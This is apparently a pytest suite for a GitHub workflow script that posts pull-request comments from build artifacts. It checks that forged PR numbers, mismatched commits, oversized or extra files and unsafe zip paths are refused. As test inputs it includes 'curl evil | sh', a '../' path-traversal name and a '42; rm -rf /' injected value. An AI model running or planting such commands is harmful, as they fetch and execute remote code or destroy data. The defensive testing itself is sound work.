"""The commenting step end to end: pr_comment.py, run as the comment workflow runs it, against a real HTTP
server on 127.0.0.1 standing in for the GitHub API, with recorded workflow_run payloads."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import zipfile

import pytest

from fake_github import BOT, FakeGitHub, gh  # noqa: F401 (gh: a fixture)
from prflow_kit import ROOT, event

SCRIPT = ROOT / "plugins" / "drawcheck" / "report" / "pr_comment.py"
HEAD = "a" * 40
OTHER = "b" * 40
TOKEN = "test-token-123"


def artifact(files: dict[str, str | bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return buf.getvalue()


def meta(number: int = 42, head: str = HEAD, mode: str = "submission") -> str:
    return json.dumps({"number": number, "head_sha": head, "mode": mode})


def comment_step(gh: FakeGitHub, payload: dict) -> subprocess.CompletedProcess:
    """The workflow's step: the run's id and head SHA from the event, python3 on the script file alone."""
    run = payload["workflow_run"]
    env = {"PATH": os.environ.get("PATH", ""), "GITHUB_TOKEN": TOKEN, "GITHUB_API_URL": gh.api_url,
           "GITHUB_REPOSITORY": payload["repository"]["full_name"]}
    return subprocess.run([sys.executable, "-I", str(SCRIPT), "--repo", env["GITHUB_REPOSITORY"],
                           "--run-id", str(run["id"]), "--head-sha", run["head_sha"]],
                          env=env, capture_output=True, text=True, timeout=60, cwd="/")


def test_first_push_creates_one_comment_and_the_next_push_updates_it(gh):
    first = event("workflow_run_completed_fork", head_sha=HEAD)
    assert first["workflow_run"]["pull_requests"] == []  # a fork PR: the number must come from the artifact
    gh.pulls[42] = HEAD
    gh.add_artifact(first["workflow_run"]["id"], artifact({"pr.json": meta(), "comment.md": "## first\n@octocat hi\n"}))
    done = comment_step(gh, first)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "created comment" in done.stdout
    (comment,) = gh.comments[42]
    assert comment["body"].startswith("<!-- drawcheck-pr-feedback -->\n## first")
    assert "@octocat" not in comment["body"] and "@\u2060octocat" in comment["body"]

    second = event("workflow_run_completed", head_sha=OTHER)
    second["workflow_run"]["id"] += 1
    gh.pulls[42] = OTHER
    gh.add_artifact(second["workflow_run"]["id"], artifact({"pr.json": meta(head=OTHER), "comment.md": "## second\n"}))
    done = comment_step(gh, second)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "updated comment" in done.stdout
    (comment2,) = gh.comments[42]
    assert comment2["id"] == comment["id"] and "## second" in comment2["body"]

    # the token went only to the API, never to the blob host the download was redirected to
    assert all(h.get("Authorization") == f"Bearer {TOKEN}" for _m, _p, h in gh.requests)
    assert gh.blob_requests and all("Authorization" not in h for _p, h in gh.blob_requests)


def _refused(gh: FakeGitHub, files: dict, *, size: int | None = None, pr_head: str = HEAD, number: int = 42) -> str:
    payload = event("workflow_run_completed_fork", head_sha=HEAD)
    gh.pulls[number] = pr_head
    gh.add_artifact(payload["workflow_run"]["id"], artifact(files), size=size)
    done = comment_step(gh, payload)
    assert done.returncode == 1, done.stdout
    assert not any(gh.comments.values())
    assert not [r for r in gh.requests if r[0] in ("POST", "PATCH")]
    (line,) = done.stdout.splitlines()
    assert line.startswith("::error title=drawcheck comment::refused: ")
    return line


def test_a_forged_pr_number_is_refused(gh):
    gh.pulls[7] = "c" * 40  # someone else's PR, whose head is not the commit this run checked
    line = _refused(gh, {"pr.json": meta(number=7), "comment.md": "spam"}, number=42)
    assert "#7" in line and "not the checked commit" in line


def test_a_pr_number_that_does_not_exist_is_refused(gh):
    _refused(gh, {"pr.json": meta(number=999), "comment.md": "spam"}, number=42)


def test_a_head_sha_other_than_the_runs_is_refused(gh):
    line = _refused(gh, {"pr.json": meta(head=OTHER), "comment.md": "x"}, pr_head=OTHER)
    assert "the run checked" in line


def test_an_oversized_artifact_is_refused_by_its_reported_size(gh):
    line = _refused(gh, {"pr.json": meta(), "comment.md": "x"}, size=10 * 1024 * 1024)
    assert "over the" in line
    assert not gh.blob_requests  # not even downloaded


def test_an_oversized_comment_is_refused_even_when_the_size_lies(gh):
    big = "x" * (80 * 1024)
    line = _refused(gh, {"pr.json": meta(), "comment.md": big}, size=100)
    assert "comment.md" in line


def test_extra_files_are_refused(gh):
    line = _refused(gh, {"pr.json": meta(), "comment.md": "x", "run.sh": "curl evil | sh"})
    assert "unexpected files" in line and "run.sh" in line


def test_path_tricks_in_the_zip_are_refused(gh):
    _refused(gh, {"pr.json": meta(), "../comment.md": "x"})


def test_a_malformed_pr_json_is_refused(gh):
    _refused(gh, {"pr.json": '{"number": "42; rm -rf /", "head_sha": "x"}', "comment.md": "x"})


def test_a_comment_forging_the_marker_under_another_login_is_not_taken_over(gh):
    payload = event("workflow_run_completed_fork", head_sha=HEAD)
    gh.pulls[42] = HEAD
    gh.comments[42] = [{"id": 5, "user": {"login": "mallory", "type": "User"},
                        "body": "<!-- drawcheck-pr-feedback -->\nlooks official"}]
    gh.add_artifact(payload["workflow_run"]["id"],
                    artifact({"pr.json": meta(), "comment.md": "<!-- drawcheck-pr-feedback -->\nreal"}))
    done = comment_step(gh, payload)
    assert done.returncode == 0, done.stdout
    mallory, ours = gh.comments[42]
    assert mallory["body"].endswith("looks official") and ours["user"]["login"] == BOT
    assert ours["body"].count("drawcheck-pr-feedback") == 1


def test_a_site_change_or_a_run_without_artifact_posts_nothing(gh):
    payload = event("workflow_run_completed", head_sha=HEAD)
    done = comment_step(gh, payload)
    assert done.returncode == 0 and "no artifact" in done.stdout
    gh.add_artifact(payload["workflow_run"]["id"], artifact({"pr.json": meta(mode="site")}))
    done = comment_step(gh, payload)
    assert done.returncode == 0 and "site change" in done.stdout
    assert not gh.comments


def test_the_api_address_must_be_https_unless_local():
    from drawcheck.report import pr_comment  # (never put report/ on sys.path: its markdown.py would shadow Markdown)

    with pytest.raises(pr_comment.Refused):
        pr_comment.GitHub("http://api.github.com", "t")
    pr_comment.GitHub("https://api.github.com", "t")


def test_the_script_imports_nothing_outside_the_standard_library():
    import ast

    tree = ast.parse(SCRIPT.read_text(encoding="utf-8"))
    modules = {alias.name.split(".")[0] for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names}
    modules |= {node.module.split(".")[0] for node in ast.walk(tree) if isinstance(node, ast.ImportFrom) and node.module}
    assert modules <= set(sys.stdlib_module_names) | {"__future__"}, modules
